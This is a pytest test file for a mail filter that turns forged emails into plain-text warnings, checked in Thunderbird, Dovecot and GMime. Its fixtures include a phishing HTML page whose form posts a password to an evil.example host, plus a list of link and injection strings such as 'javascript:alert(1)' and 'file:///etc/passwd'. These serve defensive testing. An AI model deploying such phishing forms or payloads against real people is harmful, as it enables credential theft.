"""Method A in real readers: nothing of a forged mail is shown but words, and all
readers see the same words. The same mails with labels alone show everything."""

import base64
import email
import email.policy
import hashlib
import itertools
import json
import os

import pytest

from harness.dovecot import Dovecot
from harness.forged import (
    BODIES, HOST, SETTINGS, USER, mail, make_zone, parse_rewritten, plain, quoted,
    secret_word,
)
from harness.mekiki import binary, verified
from harness.process import program, run
from harness.thunderbird import Thunderbird
from harness.waiting import until
from harness.web import Web

OTHER = "jiro@home.example"  # has chosen labels instead
REWRITTEN, KEPT = 1, 2  # the accounts
BLOCK, INLINE, REMOTE = "#F106B3", "#06B3F1", "#B306F1"  # colors of the originals
WARNING = "WARNING FROM MEKIKI: this mail is forged."
REASON = "It says that it comes from bank[.]example, which asks not to trust unproven"
SHOWN = 1500  # pixels


def picture(color):
    # Without what makes a client adjust the color to its screen.
    return run([program("convert"), "-size", "60x60", f"xc:{color}", "-define",
                "png:include-chunk=none", "png:-"]).stdout


# Whatever a client might take for a link.
LINKS = """http://evil.example/a HTTPS://EVIL.EXAMPLE www.evil.example/b
ftp://evil.example ftp.evil.example mailto:a@evil.example a@evil.example
<a@evil.example> <URL:http://evil.example/c> [www.evil.example] evil.example/d
file:///etc/passwd tel:+81312345678 data:text/html,x news:evil javascript:alert(1)
http://192.0.2.7/e http://[2001:db8::7]/f //evil.example/g http:evil.example
http://evil\u3002example/h hxxp://evil.example x-evil://evil imap://evil.example
<a @evil.example> <a@ evil> <a @ b> "at a@evil.example now" "taro @home" <taro@>
<mailto: a> "mailto: a" <tel: 0312345678> <http: //evil.example> "http: evil" <mailto:>
< http://evil.example > "see www.evil.example" <a\uff20evil.example> <www . evil . example>
"""
WORDS = {**{name: content for name, (content, _) in BODIES.items()},
         "links": plain("utf-8", LINKS), "long": plain("utf-8", "word " * 2000)}


def page(web, place):
    """All that must not be shown of an HTML mail."""
    remote = f"http://127.0.0.1:{web.port}/{place}"
    inline = base64.b64encode(picture(INLINE)).decode()
    return (
        f"<html><head><style>body {{ background: url({remote}/background.png) }}"
        f".block {{ background: {BLOCK}; height: 50px }}</style></head><body>"
        f"<p>Please <a href='http://evil.example/?u=7'>log in</a> now.</p>"
        f"<div class=block></div><img src='{remote}/image.png'>"
        f"<img src='data:image/png;base64,{inline}'><img src='cid:picture'>"
        f"<form action='http://evil.example/take'><input name=password>"
        f"<button>Go</button></form></body></html>\r\n").encode()


def part(kind, content, more=b""):
    return b"Content-Type: " + kind + b"\r\n" + more + b"\r\n" + content


def parts(kind, *inner):
    return part(
        b"multipart/" + kind + b"; boundary=" + kind,
        b"".join(b"--" + kind + b"\r\n" + one + b"\r\n" for one in inner)
        + b"--" + kind + b"--\r\n")


def shapes(web, whose):
    def html(place):
        return part(b"text/html; charset=utf-8", page(web, f"{whose}/{place}"))

    cid = part(
        b"image/png", base64.encodebytes(picture(INLINE)).replace(b"\n", b"\r\n"),
        b"Content-ID: <picture>\r\nContent-Transfer-Encoding: base64\r\n")
    file = part(b"text/html; charset=utf-8; name=form.html", page(web, f"{whose}/file"),
                b"Content-Disposition: inline; filename=form.html\r\n")
    enclosed = part(
        b"message/rfc822", b"From: x@evil.example\r\nSubject: enclosed\r\n"
        + html("enclosed"), b"Content-Disposition: attachment; filename=mail.eml\r\n")
    return {
        "html alone": html("html"),
        "alternative": parts(b"alternative", plain("utf-8", "Please log in."),
                             html("alternative")),
        "related": parts(b"related", html("related"), cid),
        "with a file": parts(b"mixed", plain("utf-8", "See the file."), file),
        "with a mail": parts(b"mixed", plain("utf-8", "See the mail."), enclosed),
    }


# In the addresses of the pictures.
PLACES = {"html alone": "html", "with a file": "file", "with a mail": "enclosed"}


@pytest.fixture(scope="module")
def zone():
    return make_zone()


@pytest.fixture(scope="module")
def mekiki(start, zone):
    return start(zone, SETTINGS)


@pytest.fixture(scope="module")
def web():
    web = Web(picture(REMOTE))
    yield web
    web.end()


@pytest.fixture(scope="module")
def originals(web):
    """{user: {subject: mail}}"""
    bodies = {USER: {**shapes(web, "rewritten"), **WORDS}, OTHER: shapes(web, "kept")}
    return {
        user: {name: mail(content, f"Subject: {name}\r\n".encode())
               for name, content in all.items()}
        for user, all in bodies.items()
    }


@pytest.fixture(scope="module")
def dovecot(folder, originals):
    dovecot = Dovecot(folder / "dovecot")
    for user, mails in originals.items():
        dovecot.add_user(user, mails.values())
    yield dovecot
    dovecot.end()


@pytest.fixture(scope="module")
def logins(mekiki, dovecot):
    made = {user: f"{user}%{HOST}:{dovecot.port}" for user in (USER, OTHER)}
    run([binary(), "user", "set", made[OTHER], "--methods", "C", "--config",
         mekiki.folder / "mekiki.toml", "--state", mekiki.state])
    return made


@pytest.fixture(scope="module")
def delivered(mekiki, logins, originals):
    """What arrives for USER: {subject: octets}"""
    with mekiki.client().login(logins[USER], Dovecot.PASSWORD) as client:
        got = {name: client.mail(f"RETR {number}")
               for number, name in enumerate(originals[USER], 1)}
        client.quit()
    return got


@pytest.fixture(scope="module")
def thunderbird(folder, screen, mekiki, logins):
    thunderbird = Thunderbird(
        folder / "thunderbird", screen,
        [(mekiki.port, logins[USER]), (mekiki.port, logins[OTHER])], Dovecot.PASSWORD,
        {"mailnews.message_display.disable_remote_image": False,
         "mail.pane_config.dynamic": 2})  # the message has the whole height
    thunderbird.fetch(REWRITTEN)
    thunderbird.fetch(KEPT)
    yield thunderbird
    thunderbird.end()


numbers = itertools.count()


def painted(thunderbird, screen, name):
    """The colors of a screenshot on which the message in front is painted: it
    shows what we add to its end."""
    mark = f"#0A7B{next(numbers):02X}"
    thunderbird.message(
        """
        const mark = doc.createElement("div");
        mark.style = `position: fixed; right: 0; bottom: 0; width: 40px; height: 40px;
          background: ${args[0]}`;
        doc.body.append(mark);
        """, mark)
    return until(
        lambda: (colors := screen.colors(name))[mark] == 1600 and colors,
        "the message is painted")


ACTIVE = ("a, area, img, picture, video, audio, form, input, button, iframe, object, "
          "embed, svg, script, style, meta[http-equiv], [background], [style*=url]")


def active(thunderbird):
    """What in the message could be seen, loaded or clicked and is no text."""
    return thunderbird.message(
        "return [...doc.querySelectorAll(args[0])].map((one) => one.outerHTML)", ACTIVE)


def text_shown(thunderbird):
    """All that is shown of the mail's body, which is one plain text."""
    shown = thunderbird.message(
        """
        const wrapped = doc.querySelectorAll("[class^=moz-text-], [class^=moz-attached-]");
        const titles = doc.querySelectorAll("fieldset:not(.moz-print-only)");
        return [wrapped.length + titles.length, wrapped[0].className,
                wrapped[0].textContent];
        """)
    assert shown[:2] == [1, "moz-text-plain"], shown
    return shown[2]


def read_by_gmime(octets):
    reader = os.environ.get("MEKIKI_READ_MAIL")
    assert reader and os.access(reader, os.X_OK), (
        f"there is no program {reader}; is libgmime-3.0-dev installed?")
    return json.loads(run([reader], input=octets).stdout)


def plain_lines(text):
    return text.replace("\r\n", "\n").rstrip("\n").split("\n")


@pytest.mark.parametrize(
    "name", ["html alone", "alternative", "related", "with a file", "with a mail"])
def test_nothing_of_the_original_is_shown(
        thunderbird, screen, web, zone, folder, originals, name):
    thunderbird.select(name, REWRITTEN)
    assert active(thunderbird) == []
    text = text_shown(thunderbird)
    assert text.startswith(WARNING)
    assert REASON in text
    if name.startswith("with"):
        assert "See the" in quoted(text)
    else:
        assert "log in" in quoted(text)
    if name in ("html alone", "related"):
        assert "hxxp[:]//evil[.]example/?u=7" in quoted(text)
    colors = painted(thunderbird, screen, f"rewritten-{name}")
    assert not {BLOCK, INLINE, REMOTE} & set(colors), colors

    # The original is there for whoever asks for it.
    assert thunderbird.attachments() == [
        ("original-mail.bin", "application/octet-stream"),
        ("secret-word.txt", "text/plain")]  # by its name
    original = originals[USER][name]
    saved = thunderbird.save_attachment(0, folder / f"{name}.bin")
    assert saved == original
    judged = [verified(folder, zone, octets, f"{USER}%{HOST}")
              for octets in (original, saved)]
    assert judged[0]["verdict"] == "forged" and judged[0] == judged[1]

    # With a label alone the mail shows it all.
    thunderbird.select(name, KEPT)
    until(lambda: {BLOCK, INLINE, REMOTE} <= {
        color for color, count in screen.colors(f"kept-{name}").items()
        if count >= SHOWN}, "the colors are seen")
    shown = " ".join(active(thunderbird))
    for what in ('href="http://evil.example/?u=7"', "<form", "<img", "<input"):
        assert what in shown
    place = PLACES.get(name, name)
    until(lambda: {f"/kept/{place}/image.png", f"/kept/{place}/background.png"}
          <= set(web.asked), "the pictures are asked for")
    assert not [path for path in web.asked if path.startswith("/rewritten/")]


@pytest.mark.parametrize("name", WORDS)
def test_three_readers_read_the_same(thunderbird, delivered, name):
    octets = delivered[name]
    _, text, original = parse_rewritten(octets)
    assert text.startswith(WARNING)
    assert REASON in text
    read = read_by_gmime(octets)
    file, word = read["files"]
    assert file == {
        "name": "original-mail.bin", "type": "application/octet-stream",
        "sha256": hashlib.sha256(original).hexdigest()}
    assert (word["name"], word["type"]) == ("secret-word.txt", "application/octet-stream")
    (only,) = read["texts"]
    assert only["type"] == "text/plain"
    assert plain_lines(only["text"]) == plain_lines(text)
    thunderbird.select(name, REWRITTEN)
    assert plain_lines(text_shown(thunderbird)) == plain_lines(text)
    assert active(thunderbird) == []


def test_an_answer_does_not_take_the_secret_word_along(thunderbird, delivered):
    """It would go to the forger, with all that Thunderbird quotes."""
    name = next(iter(WORDS))
    word = secret_word(list(email.message_from_bytes(
        delivered[name], policy=email.policy.default).iter_parts())[2])
    thunderbird.run(
        """
        const mail = [...inbox(args[1]).messages]
          .find((m) => m.mime2DecodedSubject === args[0]);
        MailServices.compose.OpenComposeWindow(
          null, mail, inbox(args[1]).getUriForMsg(mail), Ci.nsIMsgCompType.ReplyToSender,
          Ci.nsIMsgCompFormat.PlainText, MailServices.accounts.defaultAccount?.defaultIdentity
            ?? MailServices.accounts.allIdentities[0], null, null);
        """, name, REWRITTEN)
    written = """
        const composed = Services.wm.getMostRecentWindow("msgcompose");
        const editor = composed?.document.getElementById("messageEditor");
        return editor?.contentDocument?.body?.innerText ?? "";
        """
    text = until(lambda: WARNING in (said := thunderbird.run(written)) and said,
                 "the answer quotes the warning")
    assert len(word) == 13 and word not in text
    thunderbird.run("Services.wm.getMostRecentWindow('msgcompose').close()")


def test_the_message_store_holds_the_originals(thunderbird, originals):
    stored = [email.message_from_bytes(octets, policy=email.policy.default)
              for octets in thunderbird.stored(REWRITTEN)]
    found = {seen["Subject"]: list(seen.iter_parts())[1].get_content() for seen in stored}
    assert found.keys() == originals[USER].keys()
    for name, original in found.items():
        sent = originals[USER][name]
        assert original == (sent if sent.endswith(b"\r\n") else sent + b"\r\n"), name
